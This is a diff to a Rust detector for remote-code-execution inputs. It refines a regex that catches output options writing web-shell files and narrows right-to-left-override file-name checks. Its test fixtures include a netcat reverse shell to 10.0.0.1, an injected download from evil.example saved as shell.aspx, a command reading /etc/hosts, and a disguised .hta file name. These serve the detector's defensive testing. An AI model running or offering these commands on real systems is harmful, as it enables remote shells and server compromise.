@@ -430,7 +430,7 @@ impl Rce {
             // JVM's `vmLog output=` (through Jolokia's DiagnosticCommand) writing its log there.
             (
                 RCE_ARGUMENT_INJECTION,
-                r#"(?:^|\s)(?:-o|--output|--output-document|output)(?:\s+|\s*=\s*)['"]?[^\s'"]{0,200}\.(?:php[0-9]?|phtml|aspx?|ashx|asmx|jspx?|cgi)\b"#,
+                r#"(?:^|\s)(?:-o\s*|--output(?:-document|-dir)?(?:\s+|\s*=\s*)|output\s*=\s*)['"]?[^\s'"]{0,200}\.(?:php[0-9]?|phtml|aspx?|ashx|asmx|jspx?|cgi)\b"#,
             ),
             // Options that make git, ssh, tar or rsync run a command of the caller's choosing.
             (
@@ -524,15 +524,9 @@ impl Rce {
             ".wsf",
         ];
         // A right-to-left override reverses what follows it on screen: `invoice\u{202E}fdp.hta`
-        // shows as `invoiceath.pdf`. No honest file name needs one to read right.
-        let encoded = || {
-            let raw = v.raw.to_ascii_lowercase();
-            raw.contains("%e2%80%ad") || raw.contains("%e2%80%ae")
-        };
-        if v.raw
-            .contains(['\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}'])
-            || encoded()
-        {
+        // shows as `invoiceath.pdf`. No honest file name needs one to read right (isolates,
+        // which chat exports put in names, reverse nothing).
+        if v.raw.contains('\u{202E}') || v.raw.to_ascii_lowercase().contains("%e2%80%ae") {
             sink.hit(RCE_UPLOAD_DISGUISED, base, 0);
         }
         if served.iter().any(|s| base.ends_with(s)) {
@@ -1497,10 +1491,16 @@ mod tests {
                 "https://example.jp/a.pdf\u{FF02} -o C:\\inetpub\\wwwroot\\shell.aspx \u{FF02}https://evil.example/s",
                 "x --output=/var/www/html/s.php",
                 "output=/opt/activemq/webapps/admin/shell.jsp",
+                "a.pdf\" -oC:\\inetpub\\wwwroot\\s.aspx",
+                "--output-dir /var/www/html/x.php",
                 "@{[system \"touch /tmp/blns.fail\"]}",
                 "system 'cat /etc/hosts'",
                 "exec \"nc -e /bin/sh 10.0.0.1 4444\"",
             ],
+        );
+        silent(
+            "rce",
+            &["the output index.php returns is empty", "-o index.html"],
         );
     }
 
@@ -1809,6 +1809,7 @@ mod tests {
             ("invoice%E2%80%AEfdp.hta", true),
             ("\u{62A}\u{642}\u{631}\u{64A}\u{631}.pdf", false),
             ("\u{5D3}\u{5D5}\u{5D7}.pdf", false),
+            ("WhatsApp Chat with \u{2068}Ana\u{2069}.txt", false),
         ] {
             let h = hits(Kind::Filename, "file:f", name, 1);
             assert_eq!(
